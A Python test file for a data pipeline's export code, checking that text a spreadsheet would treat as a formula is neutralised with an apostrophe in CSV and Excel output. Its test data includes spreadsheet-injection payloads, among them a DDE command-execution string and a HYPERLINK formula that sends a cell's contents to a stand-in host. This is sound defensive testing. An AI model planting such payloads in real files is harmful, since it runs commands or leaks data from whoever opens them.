import csv
import io

import duckdb
import pytest
from hypothesis import given
from hypothesis import strategies as st

from intel_pipeline.exports.description import Form
from intel_pipeline.exports.formulas import BLANK, SIGNS, guarded, harmless, is_formula
from intel_pipeline.warehouse.writer import literal
from intel_pipeline_tests.exports.books import cells, export, marked, publication, text

ATTACKS = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\tx",
    "\rx",
    "\nx",
    "\x00=1",
    " =1",
    "\u00a0\u200b=1",
    "\ufeff=1",
    "＝1",  # noqa: RUF001  the full-width one
    "＋1",  # noqa: RUF001
    "－1",  # noqa: RUF001
    "＠SUM(A1)",  # noqa: RUF001
    "\u22121",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.example/?"&A1,"click")',
]
HARMLESS = ["", "x", "a=b", "1-2", "name.of_x", "'=1", "#1", "ümlaut", "a, -b", "1", "don't", "x@y"]


@pytest.mark.parametrize("attack", ATTACKS)
def test_text_that_a_spreadsheet_would_take_for_a_formula_gets_an_apostrophe(attack) -> None:
    assert is_formula(attack)
    assert harmless(attack) == f"'{attack}"


@pytest.mark.parametrize("plain", HARMLESS)
def test_other_text_stays_as_it_is(plain) -> None:
    assert not is_formula(plain)
    assert harmless(plain) == plain


@pytest.mark.parametrize(
    ("attack", "defused"),
    [
        ("x;=1", "x;'=1"),
        ("x\n@y", "x\n'@y"),
        ("a\t -1;+2", "a\t '-1;'+2"),
        ('x";=1', "x\";'=1"),
        ("=1;=2", "'=1;'=2"),
        ("\t=1", "'\t'=1"),
    ],
)
def test_a_cell_that_begins_where_another_separator_cuts_the_text_is_no_formula_either(attack, defused) -> None:
    assert harmless(attack) == defused


@given(st.text(st.one_of(st.sampled_from(f"=+-@＝;\t\r\n \u200b\ufeffab'{chr(0)}"), st.characters(codec="utf-8"))))  # noqa: RUF001
def test_duckdb_and_python_agree_on_every_text(value) -> None:
    with duckdb.connect() as connection:
        assert connection.execute(f"select {guarded('$1')}", [value]).fetchall() == [(harmless(value),)]
    assert not is_formula(harmless(value))


def test_the_signs_and_blanks_are_read_as_characters_and_not_as_a_pattern() -> None:
    assert not is_formula("a")
    assert "\\-" in SIGNS
    assert BLANK.startswith("\\x00")


def test_a_csv_is_safe_unless_it_is_for_programs(tmp_path) -> None:
    book = publication(tmp_path)
    question = "select '=1' as \"=a\", -5 as number, -0.5::decimal(3, 1) as part, ['=1'] as list, null::varchar as none"
    safe = text(book, question, tmp_path / "out" / "safe.csv")
    assert list(csv.reader(io.StringIO(safe))) == [
        ["'=a", "number", "part", "list", "none"],
        ["'=1", "-5", "-0.5", '["=1"]', ""],
    ]
    raw = text(book, question, tmp_path / "out" / "raw.csv", Form(raw=True))
    assert [row[0] for row in csv.reader(io.StringIO(raw))] == ["=a", "=1"]


def test_in_excel_text_is_text_and_a_formula_is_marked_the_way_excel_does(tmp_path) -> None:
    book = publication(tmp_path)
    attacks = [attack for attack in ATTACKS if "\x00" not in attack and "\r" not in attack]
    values = ", ".join(f"({literal(attack)})" for attack in [*attacks, "plain", "https://x.example"])
    done = export(book, f"select * from (values {values}) as t(word)", tmp_path / "out" / "x.xlsx", Form("xlsx"))  # noqa: S608
    assert {kind for row in cells(done.path) for kind, _ in row} == {"s"}
    assert [row[0][1] for row in cells(done.path)][1:] == [*attacks, "plain", "https://x.example"]
    assert marked(done.path) == attacks
